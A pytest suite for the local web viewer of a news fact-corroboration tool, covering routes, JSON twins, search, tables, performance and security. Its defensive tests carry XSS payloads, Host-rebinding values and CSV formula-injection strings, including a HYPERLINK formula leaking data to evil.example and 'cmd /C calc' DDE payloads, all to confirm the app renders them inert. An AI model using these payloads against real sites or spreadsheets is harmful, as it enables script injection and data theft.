"""The web app in process: every route and its JSON twin, the pages' content, safety, speed.

Requests go straight to the WSGI app, wrapped in ``wsgiref.validate`` so that
any breach of the WSGI protocol fails the test. The record is the shared
hand-made one (``tests/records.py``), written to a real SQLite file and read
back through ``store.read_record`` as the server does.
"""

from __future__ import annotations

import csv
import dataclasses
import importlib.util
import io
import json
import threading
import time
import urllib.parse
import urllib.request
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any
from wsgiref.util import setup_testing_defaults
from wsgiref.validate import validator

import lxml.html
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from lxml.html import HtmlElement
from records import (
    make_events_record,
    make_mention,
    make_one_event_record,
    make_quote,
    make_record,
    make_report,
)
from test_support import marked

from corroborator.cli import cli
from corroborator.models import Event, Fact, Record, Skipped, Source
from corroborator.record.store import SCHEMA, write_record
from corroborator.web import CSP, App, create_server, make_app, urls
from corroborator.web.timeline import parse_when

pytestmark = pytest.mark.issue(3)

ROOT = Path(__file__).resolve().parent.parent
HOSTILE_SCRIPT = "<script>window.__xss=1</script>"
HOSTILE_IMG = '<img src=x onerror="window.__xss=2">'
HOSTILE_TEXTAREA = "</textarea><script>window.__xss=3</script>"
HOSTILE_LINK = "javascript:window.__xss=4"


# ---------------------------------------------------------------------------
# an in-process client


@dataclasses.dataclass
class Result:
    status: int
    headers: dict[str, str]
    body: bytes

    @property
    def text(self) -> str:
        return self.body.decode("utf-8")

    def json(self) -> Any:
        return json.loads(self.body)

    def html(self) -> HtmlElement:
        return lxml.html.document_fromstring(self.text)


def call(app: App, path: str, *, method: str = "GET", host: str = "127.0.0.1:8000") -> Result:
    """One request through ``wsgiref.validate``, which fails on any WSGI protocol error."""
    path_info, _, query = path.partition("?")
    environ: dict[str, Any] = {
        "REQUEST_METHOD": method,
        "PATH_INFO": path_info.encode("utf-8").decode("latin-1"),
        "QUERY_STRING": query,
        "HTTP_HOST": host,
        "SCRIPT_NAME": "",
    }
    setup_testing_defaults(environ)
    seen: dict[str, Any] = {}

    def start_response(
        status: str, headers: list[tuple[str, str]], exc_info: Any = None
    ) -> Callable[[bytes], None]:
        seen["status"], seen["headers"] = status, headers
        return lambda _: None

    answer: Iterable[bytes] = validator(app)(environ, start_response)
    try:
        body = b"".join(answer)
    finally:
        answer.close()  # type: ignore[attr-defined]
    headers = {k.lower(): v for k, v in seen["headers"]}
    return Result(int(seen["status"].split()[0]), headers, body)


def twin(path: str) -> str:
    """The JSON twin of a path: ``.json`` before the query string (``/`` is ``/index.json``)."""
    base, _, query = path.partition("?")
    base = "/index" if base == "/" else base
    return f"{base}.json" + (f"?{query}" if query else "")


# ---------------------------------------------------------------------------
# records


def _hostile_record() -> Record:
    """The fixture record plus a report, quote, fact, event and entity full of markup."""
    doc, sents = make_report(
        "hostile",
        [
            [
                f"Officials said {HOSTILE_SCRIPT} 12 people left.",
                f"{HOSTILE_IMG} and {HOSTILE_TEXTAREA} showed up in the feed.",
            ],
            ['"<b onmouseover=alert(3)>Run</b>," said <i>Eve</i>.'],
        ],
        source=Source(
            url=HOSTILE_LINK,
            outlet='"><script>alert(2)</script>',
            title=f"{HOSTILE_IMG} headline",
            author=HOSTILE_TEXTAREA,
        ),
        clutter=(1, f"{HOSTILE_TEXTAREA}\n\n", "<b>boilerplate</b>"),
    )
    mention = make_mention(
        doc,
        sents,
        "hostile-m1",
        "12",
        sentence=0,
        kind="count",
        value=12.0,
        said_by=HOSTILE_IMG,
        hedged=True,
        hedge_cue='"><script>',
        subject=HOSTILE_SCRIPT,
        time="2025-03-01",
    )
    quote = make_quote(doc, "hostile-q1", "<b onmouseover=alert(3)>Run</b>,", HOSTILE_IMG)
    fact = Fact(
        "hostile-f",
        "hostile-e",
        HOSTILE_SCRIPT,
        HOSTILE_SCRIPT,
        "count",
        "conflict",
        (mention,),
        value=12.0,
        reason=HOSTILE_TEXTAREA,
    )
    base = make_record()
    entity = dataclasses.replace(
        base.entities[0],
        id="hostile-ent",
        name=HOSTILE_IMG,
        aliases=(HOSTILE_IMG, HOSTILE_SCRIPT),
        docs=("hostile",),
    )
    return dataclasses.replace(
        base,
        documents=base.documents + (doc,),
        sentences=base.sentences + sents,
        mentions=base.mentions + (mention,),
        quotes=base.quotes + (quote,),
        entities=base.entities + (entity,),
        events=base.events + (Event("hostile-e", HOSTILE_SCRIPT, ("hostile",), "2025-03"),),
        facts=base.facts + (fact,),
        skipped=base.skipped + (Skipped(HOSTILE_IMG, HOSTILE_SCRIPT),),
        story=HOSTILE_SCRIPT,
    )


def _app_for(record: Record, folder: Path) -> App:
    path = folder / "record.sqlite"
    write_record(record, path)
    return make_app(path)


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> App:
    return _app_for(make_record(), tmp_path_factory.mktemp("record"))


@pytest.fixture(scope="module")
def one_event_app(tmp_path_factory: pytest.TempPathFactory) -> App:
    return _app_for(make_one_event_record(), tmp_path_factory.mktemp("one-event"))


@pytest.fixture(scope="module")
def events_app(tmp_path_factory: pytest.TempPathFactory) -> App:
    return _app_for(make_events_record(), tmp_path_factory.mktemp("events"))


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory: pytest.TempPathFactory) -> App:
    return _app_for(_hostile_record(), tmp_path_factory.mktemp("hostile"))


def _load_bench() -> Any:
    """``bench/web_load.py``, for the synthetic 10,000-fact record its load run uses too."""
    spec = importlib.util.spec_from_file_location("web_load", ROOT / "bench" / "web_load.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@pytest.fixture(scope="module")
def big_app(tmp_path_factory: pytest.TempPathFactory) -> App:
    return _app_for(_load_bench().synthetic_record(10_000), tmp_path_factory.mktemp("big"))


# Every route, with ids from the fixture record.
PAGES = [
    "/",
    "/facts",
    "/facts?status=conflict",
    "/fact/f-injured",
    "/compare",
    "/subjects",
    f"/subject/{urls.tilde_encode('Halvern Chemicals plant fire')}",
    "/reports",
    "/report/ledger-fire",
    "/quotes",
    "/quotes?speaker=Dana+Ortiz",
    "/entities",
    "/entity/e-ortiz",
    "/events",
    "/event/ev-fire",
    "/timeline",
    "/search?q=injured",
    "/search?q=Marlow&group=sentences",
    "/tables",
    "/table/facts",
    "/table/mentions?kind=count",
]
HOSTILE_PAGES = PAGES + [
    "/report/hostile",
    "/fact/hostile-f",
    f"/subject/{urls.tilde_encode(HOSTILE_SCRIPT)}",
    "/entity/hostile-ent",
    "/event/hostile-e",
    "/search?q=script",
    "/search?q=onerror&group=quotes",
    "/table/documents",
    "/table/removed",
    "/quotes?speaker=" + urllib.parse.quote(HOSTILE_IMG),
]


# ---------------------------------------------------------------------------
# every route, its twin, the headers


@pytest.mark.parametrize("path", PAGES)
def test_web_route_answers_html(app: App, path: str) -> None:
    r = call(app, path)
    assert r.status == 200, r.text
    assert r.headers["content-type"] == "text/html; charset=utf-8"
    assert r.html().xpath("//main")


@pytest.mark.parametrize("path", PAGES)
def test_web_route_has_json_twin(app: App, path: str) -> None:
    r = call(app, twin(path))
    assert r.status == 200, r.text
    assert r.headers["content-type"] == "application/json; charset=utf-8"
    separator = "&" if "?" in path else "?"
    assert call(app, f"{path}{separator}_format=json").json() == r.json()


@pytest.mark.parametrize("path", PAGES)
def test_web_page_links_its_json_twin(app: App, path: str) -> None:
    [link] = call(app, path).html().xpath("//link[@rel='alternate']/@href")
    assert call(app, link).status == 200


@pytest.mark.parametrize(
    "path", ["/", "/fact/f-injured", "/nope", "/static/style.css", "/facts.json"]
)
def test_web_sends_security_headers(app: App, path: str) -> None:
    headers = call(app, path).headers
    assert headers["content-security-policy"] == CSP
    assert "script-src 'none'" in CSP and "default-src 'none'" in CSP
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["x-frame-options"] == "DENY"
    assert headers["referrer-policy"] == "no-referrer"


def test_web_head_has_no_body(app: App) -> None:
    r = call(app, "/fact/f-injured", method="HEAD")
    assert r.status == 200 and r.body == b""
    assert int(r.headers["content-length"]) == len(call(app, "/fact/f-injured").body)


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH"])
def test_web_is_read_only(app: App, method: str) -> None:
    r = call(app, "/facts", method=method)
    assert r.status == 405
    assert r.headers["allow"] == "GET, HEAD"


@pytest.mark.parametrize("host", ["evil.example", "evil.example:8000", "10.0.0.1:8000"])
def test_web_refuses_other_hosts(app: App, host: str) -> None:
    """A page elsewhere cannot read the record by rebinding its name to 127.0.0.1."""
    assert call(app, "/", host=host).status == 400


@pytest.mark.parametrize("host", ["127.0.0.1:8000", "localhost:8000", "[::1]:8000", "LOCALHOST"])
def test_web_accepts_loopback_hosts(app: App, host: str) -> None:
    assert call(app, "/", host=host).status == 200


@pytest.mark.parametrize(
    "path",
    [
        "/nope",
        "/fact/nope",
        "/report/nope",
        "/subject/nope",
        "/entity/nope",
        "/event/nope",
        "/table/nope",
        "/table/meta",
        "/static/nope.css",
        "/static/../app.py",
        "/facts.csv",
        "/fact/%7E%7E",
    ],
)
def test_web_unknown_address_is_404(app: App, path: str) -> None:
    assert call(app, path).status == 404
    if not path.startswith("/static/") and not path.endswith(".csv"):
        r = call(app, twin(path))
        assert r.status == 404 and r.json()["ok"] is False


@pytest.mark.parametrize("query", ["page=0", "page=x", "size=-1", "page=1.5"])
def test_web_bad_page_number_is_400(app: App, query: str) -> None:
    r = call(app, f"/facts.json?{query}")
    assert r.status == 400
    assert "whole number" in r.json()["error"]


def test_web_static_files(app: App) -> None:
    assert call(app, "/static/style.css").headers["content-type"] == "text/css; charset=utf-8"
    assert call(app, "/static/favicon.svg").headers["content-type"] == "image/svg+xml"


# ---------------------------------------------------------------------------
# overview


def test_web_overview_conflicts_first(one_event_app: App) -> None:
    page = call(one_event_app, "/").html()
    sections = [s.get("id") for s in page.xpath("//main//section[@id]")]
    assert sections == ["conflicts", "facts", "events", "reports", "skipped"]
    assert call(one_event_app, "/index.json").json()["events_first"] is False
    [row] = page.xpath("//table[contains(@class, 'conflicts')]/tbody/tr")
    assert row.xpath(".//a[@class='fact-link']/@href") == ["/fact/f-injured"]
    assert [v.text for v in row.xpath(".//span[@class='stated-value']")] == ["23", "21"]


@pytest.mark.issue(7)
def test_web_overview_events_come_before_conflicts(events_app: App) -> None:
    page = call(events_app, "/").html()
    sections = [s.get("id") for s in page.xpath("//main//section[@id]")]
    assert sections == ["events", "conflicts", "facts", "reports", "skipped"]
    assert call(events_app, "/index.json").json()["events_first"] is True


@pytest.mark.issue(7)
def test_web_overview_lists_conflicted_events_first(events_app: App) -> None:
    rows = call(events_app, "/").html().xpath("//section[@id='events']//tbody/tr")
    cells = [[td.text_content() for td in r.xpath("td")] for r in rows]
    assert cells == [
        ["Fire at the Halvern Chemicals plant", "2025-03-14", "Marlow", "2", "2", "1"],
        ["Marlow council keeps the Halvern plant closed", "2025-03-18", "Marlow", "1", "1", "0"],
    ]
    assert [r.xpath("td[1]/a/@href") for r in rows] == [["/event/ev-fire"], ["/event/ev-vote"]]
    assert [r.get("class") for r in rows] == ["row-conflict", None]


@pytest.mark.issue(7)
def test_web_overview_json_twin_has_the_events_as_shown(events_app: App) -> None:
    shown = call(events_app, "/").html().xpath("//section[@id='events']//tbody/tr/@data-event")
    events = call(events_app, "/index.json").json()["events"]
    assert [e["id"] for e in events] == shown == ["ev-fire", "ev-vote"]
    assert {k: events[0][k] for k in ("when", "where", "n_reports", "n_facts", "n_conflicts")} == {
        "when": "2025-03-14",
        "where": "Marlow",
        "n_reports": 2,
        "n_facts": 2,
        "n_conflicts": 1,
    }


@pytest.mark.issue(7)
def test_web_overview_conflicts_name_their_event(events_app: App) -> None:
    [row] = call(events_app, "/").html().xpath("//table[contains(@class, 'conflicts')]/tbody/tr")
    assert row.xpath("td[@class='event-cell']/a/@href") == ["/event/ev-fire"]
    [conflict] = call(events_app, "/index.json").json()["conflicts"]
    assert conflict["in_event"] == {
        "id": "ev-fire",
        "label": "Fire at the Halvern Chemicals plant",
        "href": "/event/ev-fire",
    }


def test_web_overview_counts(app: App) -> None:
    counts = call(app, "/index.json").json()["counts"]
    assert counts == {
        "reports": 3,
        "events": 2,
        "facts": 3,
        "conflicts": 1,
        "quotes": 3,
        "entities": 6,
        "skipped": 1,
    }


# ---------------------------------------------------------------------------
# fact page


def test_web_fact_highlights_each_sentence_in_context(app: App) -> None:
    page = call(app, "/fact/f-injured").html()
    statements = page.xpath("//li[contains(@class, 'statement')]")
    assert len(statements) == 2
    sentences = [
        s.text_content()
        for s in page.xpath("//blockquote[@class='context']//span[@class='sentence']")
    ]
    assert sentences == [
        "Fire Chief Dana Ortiz said 23 workers were injured.",
        (
            "Marlow General Hospital said 21 people were injured in the March 14 blaze at the "
            "Halvern Chemicals plant."
        ),
    ]
    assert [m.text_content() for m in page.xpath("//mark[@class='value']")] == ["23", "21"]
    context = statements[0].xpath(".//blockquote")[0].text_content()
    assert context.startswith("A fire tore through the Halvern Chemicals plant")  # its paragraph


def test_web_fact_says_who_and_where(app: App) -> None:
    page = call(app, "/fact/f-injured").html()
    heads = [h.text_content() for h in page.xpath("//div[@class='statement-head']")]
    assert "Marlow Ledger" in heads[0] and "said by Dana Ortiz" in heads[0]
    assert "Valley Courier" in heads[1] and "said by Marlow General Hospital" in heads[1]


def test_web_fact_marks_hedged_mentions(app: App) -> None:
    page = call(app, "/fact/f-damage").html()
    [badge] = page.xpath("//span[contains(@class, 'hedged')]")
    assert badge.text_content() == "hedged: could"


def test_web_fact_links_into_the_report(app: App) -> None:
    hrefs = call(app, "/fact/f-injured").html().xpath("//a[@class='in-report']/@href")
    assert hrefs == [
        "/report/ledger-fire#m-ledger-fire-m2",
        "/report/courier-fire#m-courier-fire-m1",
    ]
    report = call(app, "/report/ledger-fire").html()
    assert report.xpath("//mark[@id='m-ledger-fire-m2']")


def test_web_fact_json_has_every_mention(app: App) -> None:
    data = call(app, "/fact/f-injured.json").json()
    assert data["fact"]["status"] == "conflict"
    stated = {v["display"]: [m["mention"]["id"] for m in v["mentions"]] for v in data["values"]}
    assert stated == {"23": ["ledger-fire-m2"], "21": ["courier-fire-m1"]}


# ---------------------------------------------------------------------------
# report page


def test_web_report_links_mentions_to_facts(app: App) -> None:
    page = call(app, "/report/ledger-fire").html()
    links = {
        m.get("id"): m.xpath("./a/@href")
        for m in page.xpath("//mark[contains(@class, 'mention')][@id]")
    }
    assert links == {
        "m-ledger-fire-m1": [],  # a date in no fact: highlighted, not linked
        "m-ledger-fire-m2": ["/fact/f-injured#st-ledger-fire-m2"],
        "m-ledger-fire-m3": [],
        "m-ledger-fire-m4": ["/fact/f-damage#st-ledger-fire-m4"],
    }
    assert call(app, "/fact/f-injured").html().xpath("//li[@id='st-ledger-fire-m2']")


def test_web_report_highlights_quotes(app: App) -> None:
    page = call(app, "/report/ledger-fire").html()
    [quote] = page.xpath("//span[contains(@class, 'quote')][@id]")
    assert quote.text_content() == "We got everyone out within 20 minutes,"
    assert page.xpath("//a[@class='speaker-tag']/@href") == ["/quotes?speaker=Dana+Ortiz"]


def test_web_report_collapses_removed_clutter(app: App) -> None:
    page = call(app, "/report/ledger-fire").html()
    [details] = page.xpath("//details[@class='removed']")
    assert "Subscribe to the Marlow Ledger" in details.text_content()
    assert "Subscribe" not in page.xpath("//div[@class='text']")[0].text_content()


def test_web_report_shows_metadata(app: App) -> None:
    meta = (
        call(app, "/report/ledger-fire").html().xpath("//dl[@class='metadata']")[0].text_content()
    )
    for value in ("Marlow Ledger", "Sam Patel", "2025-03-14", "reports/ledger-fire.txt"):
        assert value in meta


# ---------------------------------------------------------------------------
# compare, subjects, quotes, entities, events, timeline


def test_web_compare_has_reports_as_columns(app: App) -> None:
    page = call(app, "/compare").html()
    columns = [th.text_content().strip() for th in page.xpath("//th[@class='report-col']/a")]
    assert columns == ["Marlow Ledger", "Valley Courier", "Marlow Ledger"]
    conflict = page.xpath("//tr[@class='row-conflict']")[0]
    assert [c.text_content().strip() for c in conflict.xpath("./td")] == ["23", "21", ""]
    assert len(conflict.xpath("./td[contains(@class, 'differs')]")) == 1


def test_web_subject_lists_facts_with_sources(app: App) -> None:
    data = call(app, twin(PAGES[6])).json()
    assert [f["id"] for f in data["facts"]] == ["f-injured", "f-damage"]
    assert [s["report"] for s in data["facts"][0]["sources"]] == ["Marlow Ledger", "Valley Courier"]


def test_web_quotes_grouped_by_speaker(app: App) -> None:
    page = call(app, "/quotes").html()
    assert [h.text for h in page.xpath("//h2[@class='speaker']")] == [
        "Dana Ortiz",
        "Lena Voss",
        "Ruth Adeyemi",
    ]
    data = call(app, "/quotes.json?speaker=Lena+Voss").json()
    assert [q["quote"]["id"] for q in data["quotes"]] == ["courier-fire-q1"]


def test_web_entity_lists_reports_and_facts(app: App) -> None:
    data = call(app, "/entity/e-halvern.json").json()
    assert [r["id"] for r in data["reports"]] == ["ledger-fire", "courier-fire", "ledger-council"]
    assert {f["id"] for f in data["facts"]} == {"f-injured", "f-damage", "f-employees"}


def test_web_event_lists_its_reports(app: App) -> None:
    data = call(app, "/event/ev-fire.json").json()
    assert [r["id"] for r in data["reports"]] == ["ledger-fire", "courier-fire"]
    assert [f["id"] for f in data["facts"]] == ["f-injured", "f-damage"]


@pytest.mark.issue(7)
def test_web_event_shows_its_conflicts_first(app: App) -> None:
    page = call(app, "/event/ev-fire").html()
    assert [s.get("id") for s in page.xpath("//main//section[@id]")] == [
        "conflicts",
        "reports",
        "facts",
    ]
    [row] = page.xpath("//section[@id='conflicts']//table[contains(@class, 'conflicts')]/tbody/tr")
    assert row.xpath(".//a[@class='fact-link']/@href") == ["/fact/f-injured"]
    assert [v.text for v in row.xpath(".//span[@class='stated-value']")] == ["23", "21"]
    counts = {e.get("data-count"): e.text for e in page.xpath("//*[@data-count]")}
    assert counts == {"reports": "2", "facts": "2", "conflicts": "1"}


@pytest.mark.issue(7)
def test_web_event_json_twin_has_its_conflicts(app: App) -> None:
    data = call(app, "/event/ev-fire.json").json()
    assert data["counts"] == {"reports": 2, "facts": 2, "conflicts": 1}
    assert [c["id"] for c in data["conflicts"]] == ["f-injured"]
    assert data["where"] == "Marlow" and data["more_conflicts"] == 0
    assert data["conflicts_href"] == "/facts?event=ev-fire&status=conflict"


@pytest.mark.issue(7)
def test_web_event_without_conflicts_says_so(app: App) -> None:
    page = call(app, "/event/ev-vote").html()
    [note] = page.xpath("//section[@id='conflicts']/p[@class='empty-note']")
    assert "No conflicts" in note.text_content()
    assert call(app, "/event/ev-vote.json").json()["conflicts"] == []


def test_web_timeline_draws_a_chart(app: App) -> None:
    page = call(app, "/timeline").html()
    [svg] = page.xpath("//svg[contains(@class, 'timeline-chart')]")
    assert svg.xpath(".//*[local-name()='line'][contains(@class, 'tl-axis')]")
    marks = svg.xpath(".//*[local-name()='a'][contains(@class, 'tl-mark')]")
    assert {m.get("href") for m in marks} == {"/event/ev-fire", "/event/ev-vote"}
    assert svg.xpath(".//*[local-name()='text'][@class='tl-tick-label']")


@pytest.mark.parametrize(
    ("value", "span"),
    [
        ("2025", ("2025-01-01", "2025-12-31")),
        ("2024-02", ("2024-02-01", "2024-02-29")),
        ("2025-03-14", ("2025-03-14", "2025-03-14")),
        ("2025-03-14T10:00:00", ("2025-03-14", "2025-03-14")),
        ("2025-13", None),
        ("2025-W10", None),
        ("March", None),
        (None, None),
        (12.0, None),
    ],
)
def test_web_timeline_reads_dates_at_their_precision(
    value: object, span: tuple[str, str] | None
) -> None:
    when = parse_when(value)
    assert (when and (when.start.isoformat(), when.end.isoformat())) == span


# ---------------------------------------------------------------------------
# filters and search


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", ["f-injured", "f-damage", "f-employees"]),
        ("status=agreed", ["f-damage"]),
        ("kind=count", ["f-injured", "f-employees"]),
        ("report=courier-fire", ["f-injured", "f-damage"]),
        ("speaker=Lena+Voss", ["f-damage"]),
        ("event=ev-vote", ["f-employees"]),
        ("status=conflict&kind=amount", []),
        ("speaker=Nobody", []),
    ],
)
def test_web_filters_narrow_the_facts(app: App, query: str, expected: list[str]) -> None:
    for path in ("/facts.json", "/compare.json"):
        data = call(app, f"{path}?{query}").json()
        rows = data.get("facts") or [r["fact"] for r in data.get("rows", [])]
        assert [f["id"] for f in rows] == expected


def test_web_facts_paginate(app: App) -> None:
    data = call(app, "/facts.json?size=2&page=2").json()
    assert [f["id"] for f in data["facts"]] == ["f-employees"]
    assert data["page"] | {"prev": None} == {
        "number": 2,
        "size": 2,
        "total": 3,
        "pages": 2,
        "first": False,
        "prev": None,
        "next": None,
    }
    assert data["page"]["prev"] == "/facts.json?size=2"


@pytest.mark.parametrize(
    ("q", "group", "title"),
    [
        ("injured", "facts", "people injured"),
        ("General Hospital", "sentences", "Valley Courier"),
        ("safety schedule", "quotes", "Ruth Adeyemi"),
        ("Ortiz", "entities", "Dana Ortiz"),
        ("council", "events", "Marlow council keeps the Halvern plant closed"),
        ("courier", "reports", "Valley Courier — Marlow blaze: 21 hurt, hospital says"),
    ],
)
def test_web_search_finds_across_the_record(app: App, q: str, group: str, title: str) -> None:
    results = {
        r["group"]: r
        for r in call(app, f"/search.json?q={urllib.parse.quote(q)}").json()["results"]
    }
    assert title in [h["title"] for h in results[group]["hits"]]


def test_web_search_marks_hits(app: App) -> None:
    page = call(app, "/search?q=hospital").html()
    marks = {m.text_content().lower() for m in page.xpath("//mark[@class='hit']")}
    assert marks == {"hospital"}


# ---------------------------------------------------------------------------
# tables


def test_web_tables_are_the_record_file_tables(app: App) -> None:
    names = [t["table"] for t in call(app, "/tables.json").json()["tables"]]
    assert names == [n for n in SCHEMA if n != "meta"]


@pytest.mark.parametrize(
    ("query", "ids"),
    [
        ("status=conflict", ["f-injured"]),
        ("n_mentions__gt=1", ["f-injured", "f-damage"]),
        ("label__contains=PLANT", ["f-employees"]),
        ("unit__isnull=1", ["f-injured", "f-employees"]),
        ("value=340", ["f-employees"]),
        ("_sort_desc=value", ["f-damage", "f-employees", "f-injured"]),
        ("_sort=label&size=1&page=2", ["f-injured"]),
        ("_search=hospital", ["f-injured"]),  # its sources column names the hospital
    ],
)
def test_web_table_filters_and_sorts(app: App, query: str, ids: list[str]) -> None:
    data = call(app, f"/table/facts.json?{query}").json()
    assert [r["id"] for r in data["rows"]] == ids


@pytest.mark.parametrize(
    "path", ["/table/mentions.csv?kind=count", "/table/mentions?kind=count&_format=csv"]
)
def test_web_table_csv_twin(app: App, path: str) -> None:
    r = call(app, path)
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"] == 'attachment; filename="mentions.csv"'
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [row["id"] for row in rows] == ["ledger-fire-m2", "courier-fire-m1", "ledger-council-m1"]
    assert rows[0]["value"] == "23.0" and rows[0]["sentence"].startswith("Fire Chief")


@pytest.mark.parametrize("query", ["nope=1", "status__like=x", "_sort=nope"])
def test_web_table_rejects_unknown_columns(app: App, query: str) -> None:
    assert call(app, f"/table/facts.json?{query}").status == 400


def test_web_table_form_redirects_to_a_plain_filter(app: App) -> None:
    r = call(app, "/table/facts?_filter_column=kind&_filter_op=exact&_filter_value=count")
    assert r.status == 302
    assert r.headers["location"] == "/table/facts?kind=count"


def test_web_table_links_ids_to_pages(app: App) -> None:
    page = call(app, "/table/mentions?id=ledger-fire-m2").html()
    hrefs = set(page.xpath("//table[contains(@class, 'rows')]//a/@href"))
    assert {"/report/ledger-fire", "/fact/f-injured", "/event/ev-fire"} <= hrefs


# ---------------------------------------------------------------------------
# hostile reports stay inert


def _inert(page: HtmlElement) -> None:
    assert not page.xpath("//script|//iframe|//object|//embed|//base")
    for element in page.iter():
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), (element.tag, name, value)
            assert not value.strip().lower().startswith("javascript:"), (element.tag, name, value)
            assert name.lower() != "style", element.tag


@pytest.mark.parametrize("path", HOSTILE_PAGES)
def test_web_hostile_text_is_inert(hostile_app: App, path: str) -> None:
    r = call(hostile_app, path)
    assert r.status == 200, r.text
    _inert(r.html())
    assert "<script" not in r.text and "<textarea" not in r.text.lower()


@pytest.mark.parametrize("path", ["/report/hostile", "/fact/hostile-f", "/", "/quotes"])
def test_web_hostile_text_is_shown_as_text(hostile_app: App, path: str) -> None:
    shown = call(hostile_app, path).html().text_content()
    assert "<script>" in shown or HOSTILE_IMG in shown


def test_web_hostile_url_is_never_a_link(hostile_app: App) -> None:
    page = call(hostile_app, "/report/hostile").html()
    assert HOSTILE_LINK in page.xpath("//dl[@class='metadata']")[0].text_content()
    assert not [h for h in page.xpath("//a/@href") if "javascript" in h]


def test_web_hostile_json_keeps_the_text_verbatim(hostile_app: App) -> None:
    data = call(hostile_app, "/report/hostile.json").json()
    assert data["author"] == HOSTILE_TEXTAREA
    assert HOSTILE_SCRIPT in data["text"]
    assert data["safe_url"] is None and data["url"] == HOSTILE_LINK


# ---------------------------------------------------------------------------
# the record file


def test_web_reloads_a_replaced_record(tmp_path: Path) -> None:
    app = _app_for(make_record(), tmp_path)
    assert call(app, "/index.json").json()["story"] == "Halvern Chemicals plant fire, Marlow"
    time.sleep(0.01)  # a new mtime even on coarse clocks
    write_record(dataclasses.replace(make_record(), story="Rebuilt"), tmp_path / "record.sqlite")
    assert call(app, "/index.json").json()["story"] == "Rebuilt"


def test_web_keeps_serving_when_the_record_breaks(tmp_path: Path) -> None:
    app = _app_for(make_record(), tmp_path)
    (tmp_path / "record.sqlite").write_bytes(b"not a database")
    assert call(app, "/index.json").json()["counts"]["facts"] == 3


def test_web_serving_does_not_write(tmp_path: Path) -> None:
    app = _app_for(make_record(), tmp_path)
    before = {p.name: p.stat().st_mtime_ns for p in tmp_path.iterdir()}
    for path in PAGES:
        call(app, path)
    assert {p.name: p.stat().st_mtime_ns for p in tmp_path.iterdir()} == before


@given(st.text())
def test_web_tilde_encoding_round_trips(text: str) -> None:
    encoded = urls.tilde_encode(text)
    assert "/" not in encoded and "." not in encoded and "%" not in encoded
    assert urls.tilde_decode(encoded) == text


@pytest.mark.parametrize(
    ("ident", "encoded"),
    [("f-injured", "f-injured"), ("a b", "a+b"), ("a/b.json", "a~2Fb~2Ejson"), ("é", "~C3~A9")],
)
def test_web_tilde_encoding_examples(ident: str, encoded: str) -> None:
    assert urls.tilde_encode(ident) == encoded


# ---------------------------------------------------------------------------
# a record of 10,000 facts


BIG_PAGES = [
    "/",
    "/facts",
    "/facts?status=single&page=90",
    "/facts?speaker=Speaker+7",
    "/compare",
    "/compare.json?page=40",
    "/fact/fact-05000",
    "/report/report-0042",
    "/report/report-0042.json",
    "/subjects",
    "/subject/Subject+12",
    "/quotes",
    "/entities",
    "/entity/e-s3",
    "/events",
    "/event/ev-3",
    "/timeline",
    "/search?q=figure+case+12",
    "/search?q=Subject+3&group=sentences",
    "/tables",
    "/table/mentions?kind=date&_sort_desc=value",
    "/table/sentences?_search=case+4",
]


@pytest.mark.parametrize("path", BIG_PAGES)
def test_web_big_record_page_under_300ms(big_app: App, path: str) -> None:
    assert call(big_app, path).status == 200
    best = min(_timed(big_app, path) for _ in range(3))
    assert best < 0.300, f"{path} took {best * 1000:.0f} ms"


def _timed(app: App, path: str) -> float:
    started = time.perf_counter()
    call(app, path)
    return time.perf_counter() - started


def test_web_big_record_lists_are_paginated(big_app: App) -> None:
    data = call(big_app, "/facts.json").json()
    assert data["page"]["total"] == 10_000 and len(data["facts"]) == 50
    assert data["page"]["next"] == "/facts.json?page=2"


# ---------------------------------------------------------------------------
# the command and the server


def test_web_cli_serve_has_help() -> None:
    result = CliRunner().invoke(cli, ["serve", "--help"])
    assert result.exit_code == 0
    assert "JSON twin" in result.output and "127.0.0.1" in result.output


def test_web_cli_serve_without_record_says_what_to_do(tmp_path: Path) -> None:
    result = CliRunner().invoke(cli, ["serve", str(tmp_path)])
    assert result.exit_code == 1
    assert "corroborator build" in result.output


def test_web_server_answers_on_loopback(tmp_path: Path) -> None:
    write_record(make_record(), tmp_path / "record.sqlite")
    server, url = create_server(tmp_path, port=0)
    assert url.startswith("http://127.0.0.1:")
    thread = threading.Thread(target=server.run, daemon=True)  # type: ignore[attr-defined]
    thread.start()
    try:
        with urllib.request.urlopen(url + "fact/f-injured.json", timeout=10) as response:
            assert json.load(response)["fact"]["id"] == "f-injured"
            assert response.headers["Content-Security-Policy"] == CSP
    finally:
        server.close()  # type: ignore[attr-defined]
        thread.join(timeout=10)


# ---------------------------------------------------------------------------
# attacks (issue 19, 9)


@pytest.mark.issue(19)
@pytest.mark.parametrize("query", ["page=²", "page=٣", "size=¹", "page=１", "page=" + "9" * 5000,
                                   "page=%C2%B2", "size=" + "1" * 40])
def test_web_non_ascii_or_huge_page_number_is_400(app: App, query: str) -> None:
    for path in (f"/facts.json?{query}", f"/facts?{query}", f"/table/facts.json?{query}"):
        r = call(app, path)
        assert r.status == 400, (path, r.status)
    assert "whole number" in call(app, f"/facts.json?{query}").json()["error"]


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.issue(19)
def test_web_csv_neutralises_formulas(tmp_path: Path) -> None:
    record = dataclasses.replace(make_record(), skipped=tuple(
        Skipped(f"reports/{n}.txt", formula) for n, formula in enumerate(FORMULAS)))
    app = _app_for(record, tmp_path)
    r = call(app, "/table/skipped.csv")
    assert r.status == 200
    rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
    assert [row["reason"] for row in rows] == ["'" + f for f in FORMULAS]
    for row in rows:
        assert not row["reason"].startswith(("=", "+", "-", "@", "\t", "\r"))
